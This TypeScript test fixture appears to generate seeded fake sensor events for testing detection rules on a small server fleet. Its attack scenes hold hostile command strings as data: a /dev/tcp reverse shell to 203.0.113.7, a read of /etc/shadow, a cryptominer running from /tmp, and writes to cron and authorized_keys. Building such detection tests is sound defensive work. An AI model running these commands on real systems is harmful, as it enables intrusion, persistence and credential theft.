/**
 * Made-up events in the shape that the sensor writes, for a small fleet. The same ones on every run: a seeded sequence
 * stands in for chance, and times count back from now. Each comes with its values by field name, so that filters of
 * the rule language can be answered with the real language.
 */

import type { FieldMap } from '../../../src/rules/event-model.ts';
import type { ProcessNode, StoredEvent } from '../../../src/server/api/contract.ts';

export interface MadeEvent extends StoredEvent {
  readonly fields: FieldMap;
  readonly tree: readonly ProcessNode[];
}

export const HOSTS = ['web-1', 'web-2', 'db-1', 'build-7', 'edge-3'] as const;

/** mulberry32: a short generator of numbers in [0, 1). */
export function sequence(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

interface Program {
  readonly name: string;
  readonly path: string;
  readonly args: readonly string[];
  readonly user: string;
  readonly tty?: string;
}

const UIDS: Readonly<Record<string, number>> = { root: 0, 'www-data': 33, postgres: 112, deploy: 1000, nobody: 65534 };
const CONTAINER = '4f1c2b7e9a0d83c5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9';

const SYSTEMD: Program = { name: 'systemd', path: '/usr/lib/systemd/systemd', args: [], user: 'root' };
const SSHD: Program = { name: 'sshd', path: '/usr/sbin/sshd', args: ['-D'], user: 'root' };
const SESSION: Program = { name: 'sshd', path: '/usr/sbin/sshd', args: ['deploy@pts/0'], user: 'deploy' };
const BASH: Program = { name: 'bash', path: '/usr/bin/bash', args: [], user: 'deploy', tty: 'pts0' };
const SUDO: Program = { name: 'sudo', path: '/usr/bin/sudo', args: ['cat', '/etc/shadow'], user: 'root', tty: 'pts0' };
const NGINX: Program = { name: 'nginx', path: '/usr/sbin/nginx', args: ['-g', 'daemon off;'], user: 'root' };
const WORKER: Program = { name: 'nginx', path: '/usr/sbin/nginx', args: [], user: 'www-data' };
const PHP: Program = { name: 'php-fpm8.2', path: '/usr/sbin/php-fpm8.2', args: ['--nodaemonize'], user: 'www-data' };
const CRON: Program = { name: 'cron', path: '/usr/sbin/cron', args: ['-f'], user: 'root' };
const POSTGRES: Program = {
  name: 'postgres',
  path: '/usr/lib/postgresql/15/bin/postgres',
  args: ['-D', '/var/lib/postgresql/15/main'],
  user: 'postgres',
};
const SHIM: Program = {
  name: 'containerd-shim',
  path: '/usr/bin/containerd-shim-runc-v2',
  args: ['-namespace', 'default'],
  user: 'root',
};

interface Scene {
  readonly lineage: readonly Program[];
  readonly type: string;
  readonly host: (typeof HOSTS)[number];
  readonly what: string;
  readonly rule?: string;
  readonly container?: boolean;
  /** Rest of the event's JSON. */
  readonly json: Readonly<Record<string, unknown>>;
  readonly fields: FieldMap;
}

const file = (path: string, more: object = {}) => ({
  path,
  name: path.slice(path.lastIndexOf('/') + 1),
  inode: '131592',
  mode: 0o100640,
  filesystem: 'ext4',
  uid: 0,
  gid: 42,
  user: 'root',
  group: 'shadow',
  hard_links: 1,
  modification_time: '2026-03-04T08:15:30.000000000Z',
  in_upper_layer: false,
  ...more,
});

/** What goes wrong on this fleet: one scene per rule that matched. */
const ATTACKS: readonly Scene[] = [
  {
    lineage: [
      SYSTEMD,
      SSHD,
      SESSION,
      BASH,
      SUDO,
      { name: 'cat', path: '/usr/bin/cat', args: ['/etc/shadow'], user: 'root', tty: 'pts0' },
    ],
    type: 'open',
    host: 'web-1',
    what: 'cat opened /etc/shadow',
    rule: 'credential_file_read',
    json: {
      file: { ...file('/etc/shadow'), flags: ['O_RDONLY', 'O_CLOEXEC'], resolution: 'kernel' },
      syscall: { name: 'openat', retval: 3, path: '/etc/shadow' },
    },
    fields: {
      'event.type': 'open',
      'open.file.path': '/etc/shadow',
      'open.file.name': 'shadow',
      'open.flags': 0o2000000,
    },
  },
  {
    lineage: [
      SYSTEMD,
      NGINX,
      WORKER,
      PHP,
      { name: 'sh', path: '/usr/bin/dash', args: ['-c', 'id; uname -a'], user: 'www-data' },
    ],
    type: 'exec',
    host: 'web-2',
    what: '/usr/bin/dash -c id; uname -a started',
    rule: 'service_spawned_shell',
    json: {
      file: file('/usr/bin/dash', { mode: 0o100755, group: 'root' }),
      syscall: { name: 'exec', path: '/bin/sh' },
    },
    fields: {
      'event.type': 'exec',
      'exec.file.path': '/usr/bin/dash',
      'exec.file.name': 'dash',
      'exec.args': '-c id; uname -a',
    },
  },
  {
    lineage: [
      SYSTEMD,
      NGINX,
      WORKER,
      PHP,
      {
        name: 'bash',
        path: '/usr/bin/bash',
        args: ['-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
        user: 'www-data',
      },
    ],
    type: 'exec',
    host: 'web-2',
    what: '/usr/bin/bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 started',
    rule: 'reverse_shell_arguments',
    json: {
      file: file('/usr/bin/bash', { mode: 0o100755, group: 'root' }),
      syscall: { name: 'exec', path: '/usr/bin/bash' },
    },
    fields: {
      'event.type': 'exec',
      'exec.file.path': '/usr/bin/bash',
      'exec.file.name': 'bash',
      'exec.args': '-c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    },
  },
  {
    lineage: [
      SYSTEMD,
      SHIM,
      { name: 'node', path: '/usr/local/bin/node', args: ['server.js'], user: 'root' },
      { name: 'xmr', path: '/tmp/.cache/xmr', args: ['-o', 'pool.example:3333'], user: 'root' },
    ],
    type: 'exec',
    host: 'edge-3',
    what: '/tmp/.cache/xmr -o pool.example:3333 started',
    rule: 'execution_from_temporary_directory',
    container: true,
    json: {
      file: file('/tmp/.cache/xmr', { mode: 0o100755, filesystem: 'overlay', in_upper_layer: true, group: 'root' }),
      syscall: { name: 'exec', path: '/tmp/.cache/xmr' },
    },
    fields: {
      'event.type': 'exec',
      'exec.file.path': '/tmp/.cache/xmr',
      'exec.file.name': 'xmr',
      'exec.args': '-o pool.example:3333',
    },
  },
  {
    lineage: [
      SYSTEMD,
      CRON,
      { name: 'sh', path: '/usr/bin/dash', args: ['-c', '/usr/local/bin/backup'], user: 'root' },
      { name: 'tee', path: '/usr/bin/tee', args: ['/etc/cron.d/backup'], user: 'root' },
    ],
    type: 'open',
    host: 'db-1',
    what: 'tee opened for writing /etc/cron.d/backup',
    rule: 'scheduled_task_changed',
    json: {
      file: {
        ...file('/etc/cron.d/backup', { mode: 0o100644, group: 'root' }),
        flags: ['O_WRONLY', 'O_CREAT', 'O_TRUNC'],
        resolution: 'kernel',
      },
      syscall: { name: 'openat', retval: 4, path: '/etc/cron.d/backup' },
    },
    fields: {
      'event.type': 'open',
      'open.file.path': '/etc/cron.d/backup',
      'open.file.name': 'backup',
      'open.flags': 0o1101,
    },
  },
  {
    lineage: [
      SYSTEMD,
      SSHD,
      SESSION,
      BASH,
      { name: 'sh', path: '/usr/bin/dash', args: ['-c', 'cat >> ~/.ssh/authorized_keys'], user: 'deploy', tty: 'pts0' },
    ],
    type: 'open',
    host: 'build-7',
    what: 'sh opened for writing /home/deploy/.ssh/authorized_keys',
    rule: 'ssh_authorized_keys_changed',
    json: {
      file: {
        ...file('/home/deploy/.ssh/authorized_keys', { mode: 0o100600, user: 'deploy', group: 'deploy', uid: 1000 }),
        flags: ['O_WRONLY', 'O_CREAT', 'O_APPEND'],
        resolution: 'kernel',
      },
      syscall: { name: 'openat', retval: 3, path: '/home/deploy/.ssh/authorized_keys' },
    },
    fields: {
      'event.type': 'open',
      'open.file.path': '/home/deploy/.ssh/authorized_keys',
      'open.file.name': 'authorized_keys',
      'open.flags': 0o2101,
    },
  },
];

/** What goes on all day. */
const ORDINARY: readonly Omit<Scene, 'host'>[] = [
  {
    lineage: [
      SYSTEMD,
      CRON,
      { name: 'run-parts', path: '/usr/bin/run-parts', args: ['/etc/cron.hourly'], user: 'root' },
    ],
    type: 'exec',
    what: '/usr/bin/run-parts /etc/cron.hourly started',
    json: {
      file: file('/usr/bin/run-parts', { mode: 0o100755, group: 'root' }),
      syscall: { name: 'exec', path: '/bin/run-parts' },
    },
    fields: {
      'event.type': 'exec',
      'exec.file.path': '/usr/bin/run-parts',
      'exec.file.name': 'run-parts',
      'exec.args': '/etc/cron.hourly',
    },
  },
  {
    lineage: [SYSTEMD, POSTGRES],
    type: 'open',
    what: 'postgres opened for writing /var/lib/postgresql/15/main/pg_wal/000000010000000000000042',
    json: {
      file: {
        ...file('/var/lib/postgresql/15/main/pg_wal/000000010000000000000042', {
          user: 'postgres',
          group: 'postgres',
          uid: 112,
        }),
        flags: ['O_RDWR', 'O_CREAT'],
        resolution: 'kernel',
      },
      syscall: { name: 'openat', retval: 9 },
    },
    fields: {
      'event.type': 'open',
      'open.file.path': '/var/lib/postgresql/15/main/pg_wal/000000010000000000000042',
      'open.file.name': '000000010000000000000042',
      'open.flags': 0o102,
    },
  },
  {
    lineage: [SYSTEMD, NGINX, WORKER],
    type: 'connect',
    what: 'nginx connected to 10.20.0.14:9000',
    json: {
      network: { destination: { ip: '10.20.0.14', port: 9000 }, l4_protocol: 'TCP' },
      syscall: { name: 'connect', retval: 0 },
    },
    fields: {
      'event.type': 'connect',
      'connect.addr.ip': '10.20.0.14',
      'connect.addr.port': 9000,
      'connect.addr.is_public': false,
    },
  },
  {
    lineage: [
      SYSTEMD,
      SSHD,
      SESSION,
      BASH,
      { name: 'git', path: '/usr/bin/git', args: ['fetch', '--all'], user: 'deploy', tty: 'pts0' },
    ],
    type: 'dns',
    what: 'git looked up packages.example.org (A)',
    json: { dns: { question: { name: 'packages.example.org', type: 'A' }, response: { ips: ['198.51.100.20'] } } },
    fields: { 'event.type': 'dns', 'dns.question.name': 'packages.example.org' },
  },
  {
    lineage: [
      SYSTEMD,
      SSHD,
      SESSION,
      BASH,
      { name: 'ls', path: '/usr/bin/ls', args: ['-la', '/srv'], user: 'deploy', tty: 'pts0' },
    ],
    type: 'exec',
    what: '/usr/bin/ls -la /srv started',
    json: {
      file: file('/usr/bin/ls', { mode: 0o100755, group: 'root' }),
      syscall: { name: 'exec', path: '/usr/bin/ls' },
    },
    fields: { 'event.type': 'exec', 'exec.file.path': '/usr/bin/ls', 'exec.file.name': 'ls', 'exec.args': '-la /srv' },
  },
];

function processJson(program: Program, pid: number, ppid: number, time: Date): Record<string, unknown> {
  const uid = UIDS[program.user] ?? 0;
  return {
    key: `${pid}-${time.getTime().toString(36)}-1`,
    pid,
    ppid,
    uid,
    gid: uid,
    user: program.user,
    group: program.user,
    comm: program.name,
    ...(program.tty === undefined ? {} : { tty: program.tty }),
    exec_time: nanos(time),
    credentials: {
      uid,
      user: program.user,
      euid: uid,
      euser: program.user,
      cap_effective: uid === 0 ? ['CAP_SYS_ADMIN'] : [],
    },
    executable: file(program.path, { mode: 0o100755, group: 'root' }),
    argv0: program.name,
    args: program.args,
    argc: program.args.length + 1,
    envs: ['HOME', 'LANG', 'PATH'],
    cwd: '/',
    is_thread: false,
    is_exec: true,
    source: 'event',
  };
}

const nanos = (time: Date): string => `${time.toISOString().slice(0, -1)}123456Z`;

function build(scene: Scene, index: number, time: Date): MadeEvent {
  const base = 900 + ((index * 37) % 3000);
  const id = `01j${String(index).padStart(23, '0')}`;
  const pids = scene.lineage.map((_, at) => (at === 0 ? 1 : base + at * 3));
  const runs = scene.lineage.map((program, at) => {
    const started = new Date(
      time.getTime() - (scene.lineage.length - 1 - at) * 41_000 - (at === 0 ? 86_400_000 * 3 : 0),
    );
    return processJson(program, pids[at]!, at === 0 ? 0 : pids[at - 1]!, started);
  });
  const last = scene.lineage.at(-1)!;
  const container = scene.container ? CONTAINER : '';
  const subject = runs.at(-1)!;
  const ancestors = runs.slice(0, -1).reverse();
  const json = {
    title: scene.rule === undefined ? '' : `${scene.rule}: ${scene.what}`,
    evt: {
      name: scene.type,
      category: scene.type === 'open' ? 'File Activity' : 'Process Activity',
      outcome: 'Success',
      async: false,
    },
    date: nanos(time),
    hostname: scene.host,
    process: { ...subject, tid: subject.pid, parent: ancestors[0], ancestors },
    usr: { id: last.user, group: last.user },
    ...(container === '' ? {} : { container: { id: container, runtime: 'containerd', confirmed: true } }),
    ...scene.json,
    ...(scene.rule === undefined
      ? {}
      : {
          agent: {
            rule_id: scene.rule,
            policy_name: 'default.policy',
            version: '0.1.0',
            os: 'linux',
            arch: 'x64',
            origin: 'ebpf',
          },
        }),
  };
  const tree: ProcessNode[] = scene.lineage.map((program, at) => ({
    key: `${pids[at]}-${scene.host}-${at}`,
    parent_key: at === 0 ? null : `${pids[at - 1]}-${scene.host}-${at - 1}`,
    host: scene.host,
    pid: pids[at]!,
    ppid: at === 0 ? 0 : pids[at - 1]!,
    name: program.name,
    path: program.path,
    args: [...program.args],
    user: program.user,
    uid: UIDS[program.user] ?? 0,
    tty: program.tty ?? '',
    container,
    time_start: at === 0 ? null : String(runs[at]!.exec_time),
    time_end: at === scene.lineage.length - 1 ? new Date(time.getTime() + 12).toISOString() : null,
    exit_code: at === scene.lineage.length - 1 ? 0 : null,
    signals: scene.rule !== undefined && at === scene.lineage.length - 1 ? 1 : 0,
    is_subject: at === scene.lineage.length - 1,
    events:
      at === scene.lineage.length - 1
        ? [
            {
              id,
              time: nanos(time),
              type: scene.type,
              what: scene.what,
              ...(scene.rule === undefined ? {} : { rule_id: scene.rule }),
            },
          ]
        : [],
  }));
  // A sibling, so that the tree branches.
  const branch = scene.lineage.length - 2;
  if (branch > 1) {
    tree.splice(branch + 1, 0, {
      ...tree[branch + 1]!,
      key: `sibling-${id}`,
      pid: pids[branch]! + 2,
      name: 'id',
      path: '/usr/bin/id',
      args: [],
      signals: 0,
      is_subject: false,
      exit_code: 1,
      time_start: new Date(time.getTime() - 9000).toISOString(),
      time_end: new Date(time.getTime() - 8996).toISOString(),
      events: [],
    });
  }
  return {
    id,
    time: nanos(time),
    host: scene.host,
    type: scene.type,
    class: scene.rule === undefined ? 'event' : 'signal',
    ...(scene.rule === undefined ? {} : { rule_id: scene.rule }),
    what: scene.what,
    user: last.user,
    process: last.name,
    pid: pids.at(-1)!,
    container,
    json,
    fields: {
      ...scene.fields,
      'event.hostname': scene.host,
      'process.file.path': last.path,
      'process.file.name': last.path.slice(last.path.lastIndexOf('/') + 1),
      'process.comm': last.name,
      'process.pid': pids.at(-1)!,
      'process.user': last.user,
      'process.uid': UIDS[last.user] ?? 0,
      'process.tty_name': last.tty ?? '',
      'process.container.id': container,
      'process.parent.file.name': scene.lineage.at(-2)?.path.split('/').at(-1) ?? '',
      'process.ancestors': ancestors.map((one) => ({
        'file.name': String((one.executable as { name: string }).name),
        pid: one.pid,
      })),
    },
    tree,
  };
}

/** `count` events, the newest first; one in `attackEvery` is an attack. */
export function makeEvents(count: number, attackEvery: number, now = Date.now()): MadeEvent[] {
  const next = sequence(7);
  const made: MadeEvent[] = [];
  let time = now - 4000;
  for (let index = 0; index < count; index++) {
    const attack = index % attackEvery === attackEvery - 1;
    const scene: Scene = attack
      ? ATTACKS[Math.floor(index / attackEvery) % ATTACKS.length]!
      : { ...ORDINARY[Math.floor(next() * ORDINARY.length)]!, host: HOSTS[Math.floor(next() * HOSTS.length)]! };
    made.push(build(scene, count - index, new Date(time)));
    time -= Math.floor(next() * 1800) + 50;
  }
  return made;
}

/** One attack as it happens now. */
export function freshAttack(rule: string, index: number): MadeEvent {
  return build(ATTACKS.find((scene) => scene.rule === rule)!, 1_000_000 + index, new Date());
}
